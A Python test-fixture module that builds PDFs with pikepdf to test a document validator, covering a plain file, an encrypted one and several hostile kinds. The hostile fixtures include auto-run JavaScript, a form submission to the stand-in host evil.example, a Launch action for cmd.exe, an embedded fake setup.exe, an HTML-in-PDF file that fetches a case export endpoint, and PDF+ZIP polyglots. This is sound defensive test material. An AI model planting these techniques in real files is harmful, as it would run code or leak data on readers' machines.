"""Test PDFs, made here with pikepdf (no binary fixtures): a plain one, and the hostile
kinds an adversarial review sent: auto-run JavaScript, launch and embedded-file actions,
a web page with a PDF header, and PDF+ZIP polyglots."""

from __future__ import annotations

import io
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def _saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)  # stream bytes as written, as an attacker would
    return out.getvalue()


def plain() -> bytes:
    """One blank A4 page: what a CV scan might be, minus the text."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return _saved(pdf)


def sized(n: int) -> bytes:
    """A one-page PDF of at least ``n`` bytes: the page carries data that does not compress."""
    import random

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    noise = random.Random(14).randbytes(n)
    pdf.pages[0].obj.PieceInfo = pdf.make_indirect(pikepdf.Stream(pdf, noise))
    return _saved(pdf)


def scripted() -> bytes:
    """JavaScript on opening, a page action, a link that launches a program, and an
    attached executable: each runs or opens in some officer's PDF reader."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    js = Dictionary(S=Name.JavaScript, JS=String("app.alert('opened');"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert(2)")))
    named = Dictionary(S=Name.JavaScript, JS=String("this.submitForm('https://evil.example')"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(named)]))
    )
    payload = pikepdf.Stream(pdf, b"MZ\x90\x00 not really a program")
    payload.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("setup.exe"), EF=Dictionary(F=payload))
    pdf.Root.Names.EmbeddedFiles = Dictionary(Names=Array([String("setup.exe"), spec]))
    page = pdf.pages[0]
    page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(3)")))
    launch = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )
    attachment = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([100, 100, 120, 120]),
        FS=spec,
    )
    web = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([200, 200, 300, 220]),
        A=Dictionary(S=Name.URI, URI=String("https://example.org/publications")),
    )
    page.obj.Annots = pdf.make_indirect(Array([launch, attachment, web]))
    return _saved(pdf)


def encrypted() -> bytes:
    """A PDF that opens only with its password."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


def html_body() -> bytes:
    """A web page that starts with the PDF header and ends with its trailer."""
    return b"%PDF-1.7\n<html><body><script>fetch('/api/v1/cases/export')</script></body></html>\n%%EOF\n"


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("notes.txt", "a second file, in the same bytes as the PDF")
    return out.getvalue()


def zip_appended() -> bytes:
    """A valid PDF with a ZIP archive after it, the archive's comment ending in %%EOF."""
    archive = bytearray(_zip())
    comment = b"\n%%EOF\n"
    archive[-2:] = len(comment).to_bytes(2, "little")  # the end record's comment length
    return plain() + bytes(archive) + comment


def zip_inside() -> bytes:
    """A valid PDF whose last object is a stream holding a ZIP archive: both readers open it."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.Root.Polyglot = pdf.make_indirect(pikepdf.Stream(pdf, _zip()))
    return _saved(pdf)
